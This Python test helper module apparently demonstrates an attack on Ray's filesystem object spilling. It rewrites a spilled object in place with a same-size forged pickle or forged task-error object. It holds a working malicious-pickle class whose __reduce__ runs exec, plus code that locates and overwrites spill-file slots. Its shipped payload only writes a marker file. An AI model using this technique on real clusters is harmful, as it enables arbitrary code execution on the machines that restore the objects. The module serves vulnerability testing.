"""What an attacker with write access to Ray's spill directory can do: replace one spilled object with another
of exactly the same size whose stored metadata says what the attacker likes.

Ray's filesystem spilling writes each object as ``u64 address_len | u64 metadata_len | u64 data_len | owner
address | metadata | data`` (little endian) at an offset and size the owner records; restoring reads the three
lengths back from the file and puts ``metadata`` and ``data`` into the object store as they are. So a rewrite
that keeps the slot's total size restores as a new object with new metadata.
"""

from __future__ import annotations

import os
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

HEADER = struct.Struct("<QQQ")


class Payload:
    """Unpickling it runs ``exec(code)``: what a malicious pickle in the object store does to its reader."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (self.code,))


def marker_payload(marker: Path) -> Payload:
    """A payload that proves it ran by writing ``marker`` (and its process id)."""
    return Payload(f"open({str(marker)!r}, 'w').write(str(__import__('os').getpid()))")


def raw_object(ref: Any) -> tuple[bytes, bytes]:
    """(data, metadata) of ``ref`` as the object store holds them (the test reads them the way an attacker
    with access to the store does; nothing is deserialized)."""
    import ray

    data, metadata, *_ = ray._private.worker.global_worker.core_worker.get_objects([ref], -1)[0]
    return bytes(memoryview(data)) if data is not None else b"", bytes(metadata)


def pickled(value: object) -> tuple[bytes, bytes]:
    """The (data, metadata) Ray stores for ``value``: a real Python object in Ray's own serialization."""
    import ray

    ref = ray.put(value)
    try:
        return raw_object(ref)
    finally:
        del ref


def task_error(value: object, size: int) -> tuple[bytes, bytes]:
    """One of Ray's "the task raised" objects, exactly ``size`` bytes of data, whose exception is the pickle of
    ``value``: metadata ``3`` (TASK_EXECUTION_EXCEPTION), data ``msgpack(n)`` in a 9-byte slot, then ``n`` bytes of
    msgpack (the RayException proto), then the (empty) pickle5 part, as Ray writes it; the proto's formatted text
    pads it; ``ray.get`` unpickles the exception inside."""
    import pickle

    import msgpack
    from ray.core.generated.common_pb2 import PYTHON, RayException

    def build(pad: int) -> bytes:
        proto = RayException(
            language=PYTHON, serialized_exception=pickle.dumps(value), formatted_exception_string="x" * pad
        )
        inner = msgpack.packb(proto.SerializeToString())
        prefix = msgpack.packb(len(inner))
        return prefix + bytes(9 - len(prefix)) + inner

    pad = max(0, size - len(build(0)))
    while len(build(pad)) > size:  # length prefixes grow with the padding
        pad -= 1
    data = build(pad)
    assert len(data) == size, "cannot fill the slot exactly"
    return data, b"3"


def python_object(value: object, size: int) -> tuple[bytes, bytes]:
    """A pickled Python object as Ray stores it (metadata ``PYTHON``), zero-padded to ``size`` bytes of data."""
    data, metadata = pickled(value)
    assert len(data) <= size, "the replacement does not fit the slot"
    return data + bytes(size - len(data)), metadata


def spill_files(temp_dir: Path) -> list[Path]:
    """The files under ``temp_dir`` whose path says spill; os.walk passes over folders Ray removes meanwhile."""
    return [Path(root, name) for root, _, names in os.walk(temp_dir) for name in names if "spill" in f"{root}/{name}"]


def _slot(blob: bytes, data: bytes, metadata: bytes) -> tuple[int, int] | None:
    """(slot offset, address length) of the object whose data is ``data`` in a spill file, if it is there."""
    probe = data[len(data) // 2 : len(data) // 2 + 64]
    at = blob.find(probe)
    if at < 0:
        return None
    data_start = at - len(data) // 2
    for address_len in range(4096):
        start = data_start - len(metadata) - address_len - HEADER.size
        if start < 0:
            break
        if HEADER.unpack_from(blob, start) == (address_len, len(metadata), len(data)):
            return start, address_len
    return None


def rewrite_spilled(
    temp_dir: Path, original: tuple[bytes, bytes], forge: Callable[[object, int], tuple[bytes, bytes]], value: object
) -> Path:
    """Replace the spilled object whose (data, metadata) is ``original`` by ``forge(value, size)`` with metadata
    ``PYTHON`` or an error type, keeping the slot's total size. Returns the spill file; AssertionError when the
    object was not spilled."""
    data, metadata = original
    for path in spill_files(temp_dir):
        try:
            blob = path.read_bytes()
        except FileNotFoundError:  # Ray deleted it since the listing: it held objects nobody refers to any more
            continue
        found = _slot(blob, data, metadata)
        if found is None:
            continue
        start, address_len = found
        address = blob[start + HEADER.size : start + HEADER.size + address_len]
        probe_metadata = forge(value, 1 << 16)[1]
        size = len(metadata) + len(data) - len(probe_metadata)
        new_data, new_metadata = forge(value, size)
        slot = HEADER.pack(address_len, len(new_metadata), size) + address + new_metadata + new_data
        with path.open("r+b") as f:
            f.seek(start)
            f.write(slot)
            f.flush()
            os.fsync(f.fileno())
        return path
    raise AssertionError("the object was not found in any spill file")
